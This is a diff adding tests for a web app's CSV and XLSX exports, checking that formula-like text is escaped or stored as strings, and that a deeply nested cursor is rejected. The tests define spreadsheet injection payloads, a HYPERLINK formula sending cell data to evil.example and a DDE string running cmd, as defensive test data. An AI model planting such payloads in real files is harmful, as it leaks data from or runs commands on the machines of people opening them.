@@ -1,6 +1,7 @@
 """Exports (CSV, XLSX) under the list's query string; kanban moves; the calendar feed."""
 from __future__ import annotations
 
+import base64
 import csv
 import io
 import re
@@ -26,6 +27,55 @@ def test_export_xlsx_has_the_same_rows(client, make, unique):
     sheet = load_workbook(io.BytesIO(response.data)).active
     values = [row[0].value for row in sheet.iter_rows(min_row=2)]
     assert values == [f"{unique} xlsx"]
+
+
+HYPERLINK_PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+DDE_PAYLOAD = "+cmd|' /C calc'!A0"
+
+
+def _csv_rows(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+
+
+def _loss_making_campaign(make, name: str) -> None:
+    """A campaign that spent money and won nothing: its ROI is -100 %, a negative number."""
+    make("campaign", name=name, channel="seminar", start_date="2031-01-01", actual_cost="1000")
+
+
+def test_export_csv_quotes_text_that_a_spreadsheet_would_run_as_a_formula(client, make, unique):
+    make("account", name=f"{HYPERLINK_PAYLOAD} {unique}")
+    make("account", name=f"{DDE_PAYLOAD} {unique}")
+    response = client.get(f"/app/account/export.csv?q={unique}&sort=name&cols=name")
+    names = [r[0] for r in _csv_rows(response)[1:]]
+    assert names == [f"'{DDE_PAYLOAD} {unique}", f"'{HYPERLINK_PAYLOAD} {unique}"]
+
+
+def test_export_csv_quotes_a_text_starting_with_minus_but_not_a_negative_number(client, make, unique):
+    _loss_making_campaign(make, f"-{unique} loss")
+    rows = _csv_rows(client.get(f"/app/campaign/export.csv?q={unique}&cols=name,roi"))
+    assert rows[1] == [f"'-{unique} loss", "-100%"]
+
+
+def test_export_xlsx_writes_formula_like_text_as_a_string_cell(client, make, unique):
+    from openpyxl import load_workbook
+
+    make("account", name=f"{HYPERLINK_PAYLOAD} {unique}")
+    make("account", name=f"{DDE_PAYLOAD} {unique}")
+    response = client.get(f"/app/account/export.xlsx?q={unique}&sort=name&cols=name")
+    cells = [row[0] for row in load_workbook(io.BytesIO(response.data)).active.iter_rows(min_row=2)]
+    assert [(c.value, c.data_type) for c in cells] == [(f"{DDE_PAYLOAD} {unique}", "s"),
+                                                       (f"{HYPERLINK_PAYLOAD} {unique}", "s")]
+
+
+def test_export_xlsx_writes_text_as_a_string_and_a_negative_number_as_a_number(client, make, unique):
+    from openpyxl import load_workbook
+
+    _loss_making_campaign(make, f"={unique}*2")
+    response = client.get(f"/app/campaign/export.xlsx?q={unique}&cols=name,roi")
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    name, roi = sheet["A2"], sheet["B2"]
+    assert (name.value, name.data_type) == (f"={unique}*2", "s")
+    assert roi.data_type == "n" and roi.value < 0
 
 
 def test_kanban_has_a_column_per_stage_with_count_and_sum(client):
@@ -110,6 +160,12 @@ def test_kanban_column_loads_more_cards_beyond_the_first_page(client, ui_runtime
 
 def test_kanban_load_more_refuses_an_unknown_stage(client):
     assert client.get("/app/opportunity/kanban/cards?value=nope").status_code == 400
+
+
+def test_kanban_load_more_with_a_nested_cursor_is_a_400(client):
+    cursor = base64.urlsafe_b64encode(b"[" * 1200 + b"]" * 1200).decode()
+    response = client.get(f"/app/opportunity/kanban/cards?value=won&cursor={cursor}")
+    assert response.status_code == 400
 
 
 def test_an_empty_kanban_column_shows_a_zero_total(rep_client):
